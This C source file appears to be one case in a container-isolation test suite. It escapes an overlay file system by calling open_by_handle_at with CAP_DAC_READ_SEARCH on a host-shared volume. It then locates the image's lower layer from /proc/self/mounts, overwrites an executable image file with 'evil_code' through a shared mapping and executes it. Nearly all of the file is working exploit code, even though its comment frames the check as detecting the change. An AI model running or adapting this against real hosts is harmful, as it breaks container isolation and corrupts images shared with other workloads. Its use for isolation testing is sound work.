/*
 * A file of the image's own layer, which no overlay lets be written, is opened past the overlay: by its handle, on
 * the file system that a volume of the host's shares with the image (CAP_DAC_READ_SEARCH).
 * Must be seen: the changed file's digest, or that it is not stable.
 */
#include "attack.h"

#define FILE_OF_IMAGE "/etc/code"

/* Of the root's mount options: the first of its layers. */
static char *layer(void)
{
	static char text[65536];
	int fd = opened("/proc/self/mounts", O_RDONLY);
	char *found;

	must(read(fd, text, sizeof(text) - 1), "/proc/self/mounts");
	found = strstr(text, "lowerdir=");
	if (!found)
		absent("lowerdir=");
	found += strlen("lowerdir=");
	found[strcspn(found, ":, ")] = 0;
	return found;
}

static void *code_of_image(void)
{
	int fd = opened(FILE_OF_IMAGE, O_RDONLY);
	void *code = mapped(mmap(0, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0), "mmap " FILE_OF_IMAGE);

	close(fd);
	return code;
}

ATTACK(lower_by_handle)
{
	struct {
		struct file_handle handle;
		uint32_t inode, generation;
	} root = {.handle = {.handle_bytes = 8, .handle_type = 1}, .inode = 2};
	int host = must(open_by_handle_at(opened("/data", O_RDONLY | O_DIRECTORY), &root.handle, O_RDONLY | O_DIRECTORY), "open_by_handle_at");
	char path[5000];
	char *bytes;
	void *code;
	int fd;

	snprintf(path, sizeof(path), ".%s%s", layer(), FILE_OF_IMAGE);
	fd = must(openat(host, path, O_RDWR), path);
	bytes = mapped(mmap(0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0), path);
	close(fd);
	*(volatile char *)bytes = *(volatile char *)bytes;
	code = code_of_image();
	call(code);
	munmap(code, PAGE);
	memcpy(bytes, evil_code, sizeof(evil_code));
	truth(FILE_OF_IMAGE);
	munmap(bytes, PAGE);
	call(code_of_image());
	pwrite(openat(host, path, O_WRONLY), good_code, sizeof(good_code), 0);
	return 0;
}
